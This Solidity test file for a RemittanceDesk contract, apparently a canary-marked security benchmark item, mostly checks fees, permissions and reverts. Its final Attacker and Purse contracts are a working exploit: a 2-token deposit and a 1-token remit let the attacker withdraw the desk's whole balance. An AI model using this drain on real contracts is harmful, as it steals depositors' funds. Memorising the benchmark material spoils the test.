// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import {ERC20} from "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";
import "./RemittanceDesk.sol";

// assay-canary-3dab3eb2-5b29-4db5-b30b-41b29948c5da

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Token is ERC20("Token", "TOK") {
    address private maker = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker, "maker only");
        _mint(to, amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);

    Token public token;
    RemittanceDesk private desk;
    Attacker private mallory;

    function setUp() public {
        token = new Token();
        desk = new RemittanceDesk(token, 100, 2e18);
        token.mint(ANA, 1_000e18);
        vm.startPrank(ANA);
        token.approve(address(desk), 1_000e18);
        desk.deposit(950e18);
        vm.stopPrank();
        mallory = new Attacker(desk, token);
        token.mint(address(mallory), 2);
    }

    function test_Regular() public {
        vm.startPrank(ANA);
        desk.remit(BEN, 100e18);
        require(desk.bal(BEN) == 98e18 && desk.bal(ANA) == 850e18 && desk.fees() == 2e18, "the floor");
        desk.remit(BEN, 400e18);
        require(desk.bal(BEN) == 494e18 && desk.bal(ANA) == 450e18 && desk.fees() == 6e18, "a hundredth");
        desk.remit(ANA, 10e18);
        require(desk.bal(ANA) == 448e18, "to herself");
        vm.stopPrank();
        vm.prank(BEN);
        desk.withdraw(CAT, 494e18);
        require(token.balanceOf(CAT) == 494e18 && desk.bal(BEN) == 0, "withdrawn");
        require(desk.takeFees(CAT) == 8e18 && token.balanceOf(CAT) == 502e18, "fees");
        desk.setTariff(200, 1e18);
        require(desk.feeOn(100e18) == 2e18 && desk.feeOn(1e18) == 1e18, "tariff");
        desk.transferOwnership(ANA);
        vm.startPrank(ANA);
        desk.acceptOwnership();
        desk.renounceOwnership();
        vm.stopPrank();
    }

    function test_RefusesStrangers() public {
        vm.startPrank(ANA);
        desk.remit(BEN, 100e18);
        vm.expectRevert("Ownable: caller is not the owner");
        desk.takeFees(ANA);
        vm.expectRevert("Ownable: caller is not the owner");
        desk.setTariff(0, 0);
        vm.stopPrank();
    }

    function test_RefusesTariffs() public {
        vm.expectRevert(High.selector);
        desk.setTariff(301, 0);
        vm.expectRevert(High.selector);
        desk.setTariff(0, 10e18 + 1);
        vm.expectRevert(Zero.selector);
        new RemittanceDesk(IERC20(address(0)), 0, 0);
        vm.expectRevert(Nothing.selector);
        desk.takeFees(CAT);
    }

    function test_RefusesAmounts() public {
        vm.startPrank(ANA);
        vm.expectRevert(Nothing.selector);
        desk.deposit(0);
        vm.expectRevert(Zero.selector);
        desk.remit(address(0), 10e18);
        vm.expectRevert(Zero.selector);
        desk.remit(BEN, 0);
        vm.expectRevert(Short.selector);
        desk.remit(BEN, 950e18 + 1);
        vm.expectRevert(Short.selector);
        desk.withdraw(BEN, 950e18 + 1);
        vm.stopPrank();
        token.mint(address(desk), 100e18);
        vm.startPrank(ANA);
        vm.expectRevert(Short.selector);
        desk.withdraw(BEN, 950e18 + 1);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 900e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Purse {
    function empty(RemittanceDesk desk, address to, uint256 amount) external {
        desk.withdraw(to, amount);
    }
}

contract Attacker {
    RemittanceDesk private desk;
    IERC20 private token;

    constructor(RemittanceDesk desk_, IERC20 token_) {
        desk = desk_;
        token = token_;
    }

    function run() external {
        token.approve(address(desk), 2);
        desk.deposit(2);
        Purse purse = new Purse();
        desk.remit(address(purse), 1);
        purse.empty(desk, address(this), token.balanceOf(address(desk)));
    }
}
